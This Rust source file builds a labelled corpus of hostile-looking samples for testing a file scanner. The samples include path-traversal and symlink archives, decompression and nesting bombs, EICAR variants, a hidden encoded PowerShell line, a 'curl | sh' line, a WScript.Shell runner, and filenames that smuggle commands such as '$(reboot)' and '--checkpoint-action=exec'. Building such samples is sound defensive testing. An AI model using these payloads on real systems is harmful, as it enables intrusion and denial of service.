//! Variants of the families, made here: those that would be taken by virus scanners, those that
//! are too large to store, and those that try the same trick in another way.

#[path = "build.rs"]
pub(crate) mod build;
#[path = "disguises.rs"]
mod disguises;

use crate::table::Sample;
use build::{Member, bzip2, gzip, member, png, tar, tar_member, zip, zlib};
use std::fmt::Write as _;

/// All of them.
pub(crate) fn all() -> Vec<Sample> {
    let mut all = Vec::new();
    for (family, samples) in [
        ("archive", archives()),
        ("bomb", bombs()),
        ("eicar", eicars()),
        ("encrypted", locked()),
        ("executable", programs()),
        ("malformed", broken()),
        ("mismatch", mismatches()),
        ("name", names()),
        ("polyglot", disguises::polyglots()),
        ("xml", disguises::xmls()),
        ("benign", disguises::benign()),
    ] {
        all.extend(samples.into_iter().map(|(name, expected, bytes)| Sample {
            name: name.to_owned(),
            expected: expected.to_owned(),
            family: family.to_owned(),
            bytes,
        }));
    }
    all
}

type Samples = Vec<(&'static str, &'static str, Vec<u8>)>;

const MALICIOUS: &str = "malicious";
const SUSPICIOUS: &str = "suspicious";
const UNSCANNABLE: &str = "unscannable";
const CLEAN: &str = "clean";

fn test_string() -> Vec<u8> {
    [
        r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR",
        "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ]
    .concat()
    .into_bytes()
}

fn elf() -> Vec<u8> {
    [&b"\x7fELF\x02\x01\x01"[..], &[0; 120]].concat()
}

fn archives() -> Samples {
    let file = |name: &str| tar_member(name, b'0', 0o644, "", b"1\n");
    let link = |name: &str, target: &str| tar_member(name, b'2', 0o777, target, b"");
    let hidden = Member {
        listed: false,
        ..member("b.exe", &elf())
    };
    vec![
        ("up.tar", MALICIOUS, tar(&[file("a/../../../x")])),
        ("up.tar.bz2", MALICIOUS, bzip2(&tar(&[file("../x")]))),
        ("link_up.tar", MALICIOUS, tar(&[link("a/b", "../../x")])),
        (
            "link_dir.tgz",
            MALICIOUS,
            gzip(&tar(&[link("d", "e"), file("d/x")])),
        ),
        ("drive.zip", MALICIOUS, zip(&[member("C:\\x.txt", b"x")])),
        ("root.zip", MALICIOUS, zip(&[member("/etc/cron.d/x", b"x")])),
        (
            "link.zip",
            MALICIOUS,
            zip(&[Member {
                mode: 0o120_777,
                ..member("l", b"../../etc/passwd")
            }]),
        ),
        (
            "char.tar",
            MALICIOUS,
            tar(&[tar_member("null", b'3', 0o666, "", b"")]),
        ),
        (
            "hidden.zip",
            SUSPICIOUS,
            zip(&[member("a.csv", b"1\n"), hidden]),
        ),
        (
            "twice.zip",
            SUSPICIOUS,
            zip(&[member("a.csv", b"1\n"), member("a.csv", b"2\n")]),
        ),
        (
            "renamed.zip",
            SUSPICIOUS,
            zip(&[Member {
                local: "a.bat",
                ..member("a.csv", b"1\n")
            }]),
        ),
        (
            "setgid.tar.gz",
            SUSPICIOUS,
            gzip(&tar(&[tar_member("t", b'0', 0o2755, "", b"x")])),
        ),
        (
            "fifo.tar",
            SUSPICIOUS,
            tar(&[tar_member("p", b'6', 0o644, "", b"")]),
        ),
        (
            "exe.tar",
            MALICIOUS,
            tar(&[tar_member("docs/a.docx.scr", b'0', 0o644, "", &elf())]),
        ),
    ]
}

fn bombs() -> Samples {
    let zeros = vec![0; 40 << 20];
    let nested = (0..30).fold(zip(&[member("a.txt", b"x")]), |inner, _| {
        zip(&[Member {
            data: inner,
            ..member("z.zip", b"")
        }])
    });
    let many: Vec<_> = (0..10_001)
        .map(|_| tar_member("f", b'0', 0o644, "", b""))
        .collect();
    let mut yaml = String::from("a0: &a0\n  - x\n");
    for level in 1..10 {
        let items = vec![format!("*a{}", level - 1); 9].join("\n  - ");
        writeln!(yaml, "a{level}: &a{level}\n  - {items}").expect("to memory");
    }
    let xml = "<a>".repeat(100_000);
    vec![
        ("zeros.json.gz", SUSPICIOUS, gzip(&zeros)),
        ("zeros.bz2", SUSPICIOUS, bzip2(&zeros)),
        (
            "zeros.tar.gz",
            SUSPICIOUS,
            gzip(&tar(&[tar_member("z", b'0', 0o644, "", &zeros)])),
        ),
        ("nested.zip", SUSPICIOUS, nested),
        ("many.tar.gz", SUSPICIOUS, gzip(&tar(&many))),
        ("deep.json", SUSPICIOUS, "[".repeat(100_000).into_bytes()),
        (
            "deep_object.json",
            SUSPICIOUS,
            "{\"a\":".repeat(100_000).into_bytes(),
        ),
        ("deep.xml", SUSPICIOUS, xml.into_bytes()),
        ("blocks.yaml", SUSPICIOUS, yaml.into_bytes()),
        ("wide.png", SUSPICIOUS, png(1 << 28, &[], b"")),
        (
            "text.png",
            SUSPICIOUS,
            png(
                8,
                &[(b"zTXt", &[b"k\0\0", zlib(&zeros).as_slice()].concat())],
                b"",
            ),
        ),
    ]
}

fn eicars() -> Samples {
    let inner = zip(&[Member {
        data: test_string(),
        ..member("a.com", b"")
    }]);
    let mut marked = b"\xef\xbb\xbf".to_vec();
    marked.extend(test_string());
    vec![
        ("test.com", MALICIOUS, test_string()),
        ("test.txt.gz", MALICIOUS, gzip(&test_string())),
        ("test.txt.bz2", MALICIOUS, bzip2(&test_string())),
        (
            "test.tar.gz",
            MALICIOUS,
            gzip(&tar(&[tar_member("e", b'0', 0o644, "", &test_string())])),
        ),
        (
            "test.zip",
            MALICIOUS,
            zip(&[Member {
                data: gzip(&inner),
                ..member("a.zip.gz", b"")
            }]),
        ),
        ("marked.txt", MALICIOUS, marked),
        (
            "text.png",
            MALICIOUS,
            png(
                8,
                &[(b"tEXt", &[b"k\0", test_string().as_slice()].concat())],
                b"",
            ),
        ),
        (
            "late.log",
            SUSPICIOUS,
            [b"one line\n", test_string().as_slice()].concat(),
        ),
    ]
}

fn locked() -> Samples {
    let locked = |name| Member {
        flags: 1,
        crc_xor: 1,
        ..member(name, b"rubbish")
    };
    let inner = zip(&[locked("a.csv")]);
    vec![
        (
            "locked.zip",
            UNSCANNABLE,
            zip(&[locked("a.csv"), member("b.csv", b"1\n")]),
        ),
        ("locked.zip.gz", UNSCANNABLE, gzip(&inner)),
        (
            "locked.tar",
            UNSCANNABLE,
            tar(&[tar_member("a.zip", b'0', 0o644, "", &inner)]),
        ),
    ]
}

fn programs() -> Samples {
    let shell = ["CreateObject(\"WScript", ".Shell\").Run \"calc\""]
        .concat()
        .into_bytes();
    let hidden = ["power", "shell -w hidden -enc ", "AAAAAAAAAAAAAAAAAAAAAAAA"]
        .concat()
        .into_bytes();
    vec![
        ("tool", SUSPICIOUS, elf()),
        ("lib.so.1", SUSPICIOUS, elf()),
        ("a.bin", SUSPICIOUS, [&b"MZ"[..], &[0; 80]].concat()),
        (
            "Main.class",
            SUSPICIOUS,
            b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10".to_vec(),
        ),
        ("run.bat", SUSPICIOUS, b"@echo off\r\necho hi\r\n".to_vec()),
        (
            "a.reg",
            SUSPICIOUS,
            b"Windows Registry Editor Version 5.00\r\n".to_vec(),
        ),
        ("b.vbs", MALICIOUS, shell),
        (
            "c.url",
            MALICIOUS,
            b"[InternetShortcut]\r\nURL=file://example.invalid/x\r\n".to_vec(),
        ),
        ("notes.txt", SUSPICIOUS, hidden),
        (
            "install.log",
            SUSPICIOUS,
            ["cu", "rl -s https://example.invalid/x | sh\n"]
                .concat()
                .into_bytes(),
        ),
    ]
}

fn broken() -> Samples {
    let whole = png(8, &[], b"");
    let archive = zip(&[member("a.csv", b"1\n")]);
    let packed = gzip(&b"1,2\n".repeat(100));
    vec![
        ("cut.png", UNSCANNABLE, whole[..whole.len() - 6].to_vec()),
        (
            "cut.zip",
            UNSCANNABLE,
            archive[..archive.len() - 25].to_vec(),
        ),
        (
            "cut.csv.gz",
            UNSCANNABLE,
            packed[..packed.len() - 6].to_vec(),
        ),
        ("text.json", UNSCANNABLE, b"{\"a\": 1".to_vec()),
        ("not.npy", UNSCANNABLE, b"rubbish".to_vec()),
        ("not.parquet", UNSCANNABLE, b"PAR1rubbishPAR1".to_vec()),
        ("not.jpg", UNSCANNABLE, b"plain text\n".to_vec()),
        (
            "wrong_sum.zip",
            UNSCANNABLE,
            zip(&[Member {
                crc_xor: 7,
                ..member("a.csv", b"1\n")
            }]),
        ),
        (
            "unknown.data",
            UNSCANNABLE,
            b"\x01\x02\x03\x04\x80\x90\xff\xfe".to_vec(),
        ),
    ]
}

fn mismatches() -> Samples {
    vec![
        ("a.jpg", MALICIOUS, elf()),
        ("a.pdf", MALICIOUS, [&b"MZ"[..], &[0; 80]].concat()),
        (
            "a.xlsx",
            MALICIOUS,
            b"<html><body>hello</body></html>".to_vec(),
        ),
        ("a.csv", MALICIOUS, elf()),
        ("b.csv", SUSPICIOUS, zip(&[member("a", b"1\n")])),
        ("c.txt", SUSPICIOUS, b"<!doctype html><p>hello</p>".to_vec()),
        ("d.png", SUSPICIOUS, b"GIF89a\x01\0\x01\0\0\0\0;".to_vec()),
    ]
}

fn names() -> Samples {
    let table = || b"1,2\n".to_vec();
    vec![
        ("a\u{202e}vsc.exe", MALICIOUS, table()),
        ("invoice.xlsx.js", MALICIOUS, table()),
        ("photo.jpg.lnk", MALICIOUS, table()),
        ("report\u{2066}.csv", SUSPICIOUS, table()),
        ("\u{430}pple.csv", SUSPICIOUS, table()),
        ("--checkpoint-action=exec.csv", SUSPICIOUS, table()),
        ("a\rb.csv", SUSPICIOUS, table()),
        ("$(reboot).csv", SUSPICIOUS, table()),
        ("LPT1.csv", SUSPICIOUS, table()),
        ("a.csv.", SUSPICIOUS, table()),
        (
            "photo.png.svg",
            SUSPICIOUS,
            b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
        ),
        ("desktop.ini", SUSPICIOUS, table()),
    ]
}
